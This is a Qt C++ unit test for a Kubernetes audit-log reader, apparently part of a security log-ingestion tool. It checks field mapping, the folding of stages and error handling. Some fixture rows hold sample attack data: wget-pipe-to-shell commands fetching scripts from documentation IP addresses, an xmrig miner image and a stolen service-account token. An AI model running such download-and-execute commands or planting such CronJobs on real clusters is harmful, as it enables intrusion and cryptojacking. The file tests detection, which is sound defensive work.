#include "ReaderTestSupport.h"

#include "ingest/FormatRegistry.h"
#include "ingest/K8sAuditReader.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestK8sAuditReader : public QObject {
    Q_OBJECT

    static QString sample() {
        return QStringLiteral(TEST_DATA_DIR "/formats/kubernetes/kube-apiserver-audit.log.jsonl");
    }
    static ReadResult read() { return readFile(factory<K8sAuditReader>(), sample()); }
    static ReadResult read(const QByteArray &lines) {
        return readBytes(factory<K8sAuditReader>(), lines, "audit.log");
    }

    static QByteArray stage(const char *id, const char *stage, const char *extra = "") {
        return QByteArray("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"auditID\":\"") + id +
               "\",\"stage\":\"" + stage +
               "\",\"verb\":\"create\",\"user\":{\"username\":\"alice\"},\"objectRef\":{\"resource\":"
               "\"cronjobs\","
               "\"namespace\":\"ns\",\"name\":\"" +
               id + "\"},\"stageTimestamp\":\"2025-03-04T15:02:44.331906Z\"" + extra + "}\n";
    }

private slots:
    void detects() {
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head(sample())));
        QVERIFY(detected);
        QCOMPARE(detected->id, QStringLiteral("k8s.audit.jsonl"));
    }

    void oneEventPerAuditId() {
        const ReadResult result = read();
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 5); // 7 lines, two requests logged at two stages
        QStringList ids;
        for (const NormalizedEvent &e : result.events)
            ids << e.identity;
        ids.removeDuplicates();
        QCOMPARE(ids.size(), 5);
        // The ResponseComplete stage is the one kept: its line is the record.
        QCOMPARE(result.events[0].recordNo, 1);
        QVERIFY(result.events[0].raw.contains(QLatin1String("\"stage\":\"ResponseComplete\"")));
    }

    void mapsFields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("stage time") << 0 << "time_utc"
                                    << "2025-03-04T08:30:11.221907Z";
        QTest::newRow("name only in ResponseComplete") << 0 << "task_name"
                                                       << "platform-backup/etcd-snapshot";
        QTest::newRow("schedule") << 0 << "task_trigger"
                                  << "cron(30 2 * * *)";
        QTest::newRow("image") << 0 << "container_image"
                               << "registry.corp.example.com/platform/etcd-backup:1.8.2";
        QTest::newRow("controller job") << 1 << "k8s_resource"
                                        << "jobs";
        QTest::newRow("403 kept") << 2 << "rule_name"
                                  << "Kubernetes create cronjobs denied (403 Forbidden)";
        QTest::newRow("anonymous") << 2 << "user"
                                   << "system:anonymous";
        QTest::newRow("stolen token user") << 3 << "user"
                                           << "system:serviceaccount:default:webapp-sa";
        QTest::newRow("first source IP") << 3 << "source_ip"
                                         << "198.51.100.23";
        QTest::newRow("user agent") << 3 << "user_agent"
                                    << "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625";
        QTest::newRow("namespace") << 3 << "k8s_namespace"
                                   << "default";
        QTest::newRow("verb") << 3 << "k8s_verb"
                              << "create";
        QTest::newRow("created") << 3 << "task_operation"
                                 << "created";
        QTest::newRow("command and args") << 3 << "task_action"
                                          << "/bin/sh -c wget -qO- http://203.0.113.50/m.sh | sh";
        QTest::newRow("service account") << 3 << "task_run_as"
                                         << "webapp-sa";
        QTest::newRow("cron") << 3 << "task_trigger"
                              << "cron(*/5 * * * *)";
        QTest::newRow("server-side apply is a patch") << 4 << "k8s_verb"
                                                      << "patch";
        QTest::newRow("…that created the CronJob") << 4 << "task_operation"
                                                   << "created";
        QTest::newRow("platform") << 4 << "platform"
                                  << "kubernetes";
        QTest::newRow("audit id") << 4 << "record_id"
                                  << "7d8e9f0a-1b2c-4d3e-8f4a-5b6c7d8e9f0a";
    }
    void mapsFields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read();
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    // A CronJob runs every container of its pod: sidecars and init containers are actions too.
    void otherContainersAreOtherActions_data() {
        QTest::addColumn<QByteArray>("podSpec");
        QTest::addColumn<QString>("action");
        QTest::addColumn<QString>("image");
        QTest::addColumn<QString>("otherActions");
        QTest::newRow("one container") << QByteArray("{\"containers\":[{\"name\":\"m\",\"image\":\"busybox:1."
                                                     "36\",\"command\":[\"sh\",\"-c\",\"date\"]}]}")
                                       << "sh -c date"
                                       << "busybox:1.36"
                                       << "";
        QTest::newRow("a sidecar without command, an init container with one")
            << QByteArray(
                   "{\"containers\":[{\"name\":\"m\",\"image\":\"reg/backup:2\",\"args\":[\"--all\"]},"
                   "{\"name\":\"s\",\"image\":\"xmrig/xmrig:6.21\"}],"
                   "\"initContainers\":[{\"name\":\"i\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\","
                   "\"wget -qO- http://203.0.113.9/i.sh | sh\"]}]}")
            << "--all"
            << "reg/backup:2"
            << "xmrig/xmrig:6.21\nsh -c wget -qO- http://203.0.113.9/i.sh | sh";
        QTest::newRow("no containers listed") << QByteArray("{\"containers\":[]}") << ""
                                              << ""
                                              << "";
    }
    void otherContainersAreOtherActions() {
        QFETCH(QByteArray, podSpec);
        QFETCH(QString, action);
        QFETCH(QString, image);
        QFETCH(QString, otherActions);
        const QByteArray extra =
            ",\"requestObject\":{\"spec\":{\"schedule\":\"*/5 * * * *\",\"jobTemplate\":{\"spec\":"
            "{\"template\":{\"spec\":" +
            podSpec + "}}}}}";
        const ReadResult result = read(stage("c", "ResponseComplete", extra.constData()));
        QCOMPARE(result.events.size(), 1);
        QCOMPARE(value(result.events[0], "task_action"), action);
        QCOMPARE(value(result.events[0], "container_image"), image);
        QCOMPARE(value(result.events[0], "task_other_actions"), otherActions);
    }

    void stagesFold_data() {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QStringList>("keptStages"); // of each event, in order
        QTest::newRow("interleaved") << stage("a", "RequestReceived") + stage("b", "RequestReceived") +
                                            stage("b", "ResponseComplete") + stage("a", "ResponseComplete")
                                     << QStringList{"b:ResponseComplete", "a:ResponseComplete"};
        QTest::newRow("no ResponseComplete: the last stage")
            << stage("a", "RequestReceived") + stage("a", "ResponseStarted")
            << QStringList{"a:ResponseStarted"};
        QTest::newRow("panic ends a request")
            << stage("a", "RequestReceived") + stage("a", "Panic") << QStringList{"a:Panic"};
        QTest::newRow("open requests come last")
            << stage("a", "RequestReceived") + stage("b", "ResponseComplete")
            << QStringList{"b:ResponseComplete", "a:RequestReceived"};
    }
    void stagesFold() {
        QFETCH(QByteArray, log);
        QFETCH(QStringList, keptStages);
        const ReadResult result = read(log);
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QStringList kept;
        for (const NormalizedEvent &e : result.events) {
            const QString stageName =
                e.raw.section(QStringLiteral("\"stage\":\""), 1).section(QLatin1Char('"'), 0, 0);
            kept << e.identity + QLatin1Char(':') + stageName;
        }
        QCOMPARE(kept, keptStages);
    }

    void badRecords_data() {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<int>("events");
        QTest::addColumn<QString>("issue");
        QTest::newRow("unknown stage")
            << stage("a", "RequestReceived") + stage("a", "Teleported") << 1
            << "audit.log:record 1 (line 2): stage \"Teleported\" is not a Kubernetes audit "
               "stage (RequestReceived, ResponseStarted, ResponseComplete, Panic)";
        QTest::newRow("no auditID") << QByteArray("{\"kind\":\"Event\",\"stage\":\"ResponseComplete\"}\n")
                                    << 0 << "audit.log:record 0 (line 1): the audit event has no auditID";
        QTest::newRow("bad time")
            << stage("a", "ResponseComplete").replace("2025-03-04T15:02:44.331906Z", "soon") << 0
            << "audit.log:record 0 (line 1): stageTimestamp: \"soon\" is not a time this reader "
               "understands";
        QTest::newRow("truncated last line")
            << stage("a", "ResponseComplete") + stage("b", "ResponseComplete").left(50) << 1
            << "audit.log:record 1: line 2: the file ends inside a JSON value "
               "(truncated?)";
    }
    void badRecords() {
        QFETCH(QByteArray, log);
        QFETCH(int, events);
        QFETCH(QString, issue);
        const ReadResult result = read(log);
        QCOMPARE(result.events.size(), events);
        QCOMPARE(result.issueText(0), issue);
    }

    void generateNameTakesTheResponseName() {
        const ReadResult result = read(QByteArray(
            "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/"
            "v1\",\"auditID\":\"g\",\"stage\":\"ResponseComplete\","
            "\"verb\":\"create\",\"objectRef\":{\"resource\":\"jobs\",\"namespace\":\"ns\"},"
            "\"responseObject\":"
            "{\"metadata\":{\"name\":\"backup-x7k2p\"},\"spec\":{\"template\":{\"spec\":{\"containers\":[{"
            "\"image\":"
            "\"busybox\",\"args\":[\"sleep\",\"1\"]}]}}}},\"stageTimestamp\":\"2025-03-04T15:02:44Z\"}\n"));
        QCOMPARE(result.events.size(), 1);
        QCOMPARE(result.events[0].value(EventField::TaskName), QStringLiteral("ns/backup-x7k2p"));
        QCOMPARE(result.events[0].value(EventField::TaskAction), QStringLiteral("sleep 1"));
        QCOMPARE(result.events[0].value(EventField::ContainerImage), QStringLiteral("busybox"));
    }
};

QTEST_GUILESS_MAIN(TestK8sAuditReader)
#include "tst_k8sauditreader.moc"
